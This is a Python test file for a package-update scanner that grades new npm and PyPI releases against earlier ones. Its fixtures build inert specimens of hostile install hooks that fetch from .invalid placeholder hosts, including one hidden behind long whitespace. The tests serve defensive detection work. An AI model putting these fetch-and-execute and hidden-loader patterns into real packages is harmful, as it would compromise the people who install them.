"""Checks against an older version. Every specimen is inert: names below `.invalid`, and `true` for a program."""

import hashlib
import io
import json
import os
import tarfile
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from lazaretto.app.check import NO_METADATA, Options, check
from lazaretto.model.finding import Severity
from lazaretto.model.verdict import Grade

LIBRARY = "module.exports = (date) => date.toISOString();\n"
INSTALLER = """
const https = require("https");
const { execFile } = require("child_process");
https.get("https://files.example.invalid/tool", (answer) => { answer.resume(); execFile("true"); });
"""
HIDDEN = "const version = 3;" + " " * 600 + INSTALLER.replace("\n", " ") + "\n"


@pytest.fixture
def options(tmp_path: Path) -> Options:
    return Options(jobs=1, cache_path=tmp_path / "cache.sqlite3", now=datetime(2026, 11, 23, tzinfo=UTC))


@pytest.fixture
def tarball(tmp_path: Path):
    def build(number: str, files: dict[str, str] | None = None, **manifest: object) -> str:
        whole = {"name": "zz-date-quux", "version": number, "main": "index.js", "description": "dates", **manifest}
        texts = {"package.json": json.dumps(whole, indent=1), "index.js": LIBRARY, **(files or {})}
        path = tmp_path / f"zz-date-quux-{number}.tgz"
        path.write_bytes(packed({f"package/{name}": text for name, text in texts.items()}))
        return str(path)

    return build


def packed(files: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def rules(checked, family="change/"):
    return sorted(f.rule for f in checked.examination.findings if f.rule.startswith(family))


def test_an_ordinary_update_is_context(options, tarball):
    new = tarball("1.1.0", {"load.js": "exports.load = () => fetch('https://api.example.invalid');"},
                  dependencies={"lodash": "^4"})  # fmt: skip
    checked = check(new, replace(options, against=tarball("1.0.0")))
    assert checked.verdict.grade is Grade.NOTHING_FOUND
    assert checked.verdict.complete
    assert rules(checked) == ["change/capability-added", "change/dependency-added"]
    assert checked.comparison.grade is Grade.NOTHING_FOUND
    assert {f.severity for f in checked.comparison.added} == {Severity.LOW}


def test_a_patch_that_brings_a_script_that_acts_is_suspicious(options, tarball):
    new = tarball("1.0.1", {"init.js": INSTALLER}, scripts={"postinstall": "node init.js"})
    checked = check(new, replace(options, against=tarball("1.0.0")))
    assert checked.verdict.grade is Grade.SUSPICIOUS
    assert "story/update-turns-hostile" in {f.rule for f in checked.verdict.reasons}
    assert "change/install-script-added" in rules(checked)


def test_a_patch_that_brings_a_hidden_script_is_malicious(options, tarball):
    new = tarball("1.0.1", {"init.js": HIDDEN}, scripts={"postinstall": "node init.js"})
    checked = check(new, replace(options, against=tarball("1.0.0")))
    assert checked.verdict.grade is Grade.MALICIOUS
    (story,) = [f for f in checked.examination.findings if f.rule == "story/update-turns-hostile"]
    assert [place.path for place in story.locations] == ["package/package.json", "package/init.js"]


def test_the_same_script_as_ever_is_no_change(options, tarball):
    files, scripts = {"init.js": INSTALLER}, {"postinstall": "node init.js"}
    old, new = tarball("1.0.0", files, scripts=scripts), tarball("1.0.1", files, scripts=scripts)
    checked = check(new, replace(options, against=old))
    assert rules(checked) == []
    assert checked.comparison.added == ()


def test_findings_of_the_new_version_stay_as_they_are(options, tarball):
    new = tarball("1.0.1", {"init.js": HIDDEN}, scripts={"postinstall": "node init.js"})
    alone = check(new, options).examination.findings
    together = check(new, replace(options, against=tarball("1.0.0"))).examination.findings
    assert set(alone) < set(together)


def test_an_older_version_that_is_not_there_leaves_the_answer_incomplete(options, tarball):
    checked = check(tarball("1.0.1"), replace(options, against="gone.tgz"))
    assert checked.error is None
    assert not checked.verdict.complete
    assert checked.comparison is None
    (gap,) = checked.examination.gaps
    assert gap.subject == "gone.tgz"


def test_previous_is_for_packages_of_a_registry(options, tarball):
    checked = check(tarball("1.0.1"), replace(options, against="previous"))
    assert not checked.verdict.complete
    assert "previous stands for" in checked.examination.gaps[0].reason.english()


def test_a_placeholder_of_a_security_team_is_not_alarming(options, tarball):
    holder = tarball("0.0.1-security", {"index.js": "", "README.md": "# Security holding package\n"},
                     description="security holding package", repository="npm/security-holder")  # fmt: skip
    checked = check(holder, options)
    assert checked.verdict.grade is Grade.NOTHING_FOUND
    assert not rules(checked, "meta/")


@pytest.fixture
def index(loopback, monkeypatch, tmp_path):
    """A Python index with `zz-demo-quux` 1.0 and 1.1; `self.say(...)` adds what the document of 1.1 says."""
    setup = "from setuptools import setup\nsetup(name='zz-demo-quux', version='{}')\n"
    extra = "import urllib.request, subprocess\nurllib.request.urlopen('https://collect.example.invalid/x')\n"
    rows = []
    for number, text, day in (("1.0", setup, "2024-01-01"), ("1.1", extra + setup, "2026-11-20")):
        data = packed({f"zz_demo_quux-{number}/setup.py": text.format(number), f"zz_demo_quux-{number}/PKG-INFO":
                       f"Metadata-Version: 2.1\nName: zz-demo-quux\nVersion: {number}\n"})  # fmt: skip
        name = f"zz_demo_quux-{number}.tar.gz"
        loopback.add(f"/files/{name}", data)
        digest = {"sha256": hashlib.sha256(data).hexdigest()}
        rows.append({"filename": name, "url": f"/files/{name}", "hashes": digest, "upload-time": f"{day}T00:00:00Z"})
    page = json.dumps({"files": rows}).encode()
    loopback.add("/simple/zz-demo-quux/", page, Content_Type="application/vnd.pypi.simple.v1+json")
    document = json.dumps({"info": {"author_email": "a@mailinator.com"}}).encode()
    loopback.add("/pypi/zz-demo-quux/1.1/json", document)
    for name in [name for name in os.environ if name.upper().startswith(("PIP_", "UV_"))]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("PIP_INDEX_URL", f"{loopback.url}/simple")
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("NO_PROXY", "*")
    return loopback


@pytest.mark.client
def test_a_package_online_against_the_version_below(options, index):
    online = replace(options, online=True, against="previous")
    checked = check("pypi:zz-demo-quux==1.1", online)
    assert checked.comparison.old == "pypi:zz-demo-quux==1.0"
    assert rules(checked, "meta/") == ["meta/empty-description", "meta/free-mail-domain", "meta/release-cadence"]
    assert "change/install-script-added" in rules(checked)
    assert {"story/doubtful-release-acts"} <= {f.rule for f in checked.verdict.reasons}
    assert NO_METADATA not in checked.examination.coverage.not_checked


@pytest.mark.client
def test_a_new_dependency_that_is_days_old(options, index, tmp_path):
    page = {"files": [{"filename": "zz_part_quux-0.1.tar.gz", "url": "x", "upload-time": "2026-11-20T00:00:00Z"}]}
    index.add("/simple/zz-part-quux/", json.dumps(page).encode(), Content_Type="application/vnd.pypi.simple.v1+json")
    metadata = "Metadata-Version: 2.1\nName: zz-demo-quux\nVersion: {}\n{}"
    for number, more in (("1.0", ""), ("1.1", "Requires-Dist: zz-part-quux\n")):
        folder = tmp_path / number / f"zz_demo_quux-{number}.dist-info"
        folder.mkdir(parents=True)
        (folder / "METADATA").write_text(metadata.format(number, more))
    checked = check(str(tmp_path / "1.1"), replace(options, online=True, against=str(tmp_path / "1.0")))
    assert [f.rule for f in checked.verdict.reasons] == ["change/dependency-added"]
    assert "3 days ago" in checked.verdict.reasons[0].message.english()


@pytest.mark.client
def test_the_first_version_has_nothing_to_be_compared_with(options, index):
    checked = check("pypi:zz-demo-quux==1.0", replace(options, online=True, against="previous"))
    assert checked.comparison is None
    assert checked.verdict.complete
    (gap,) = checked.examination.gaps
    assert gap.partial


def test_offline_says_that_metadata_was_not_checked(options, tarball):
    assert NO_METADATA in check(tarball("1.0.0"), options).examination.coverage.not_checked
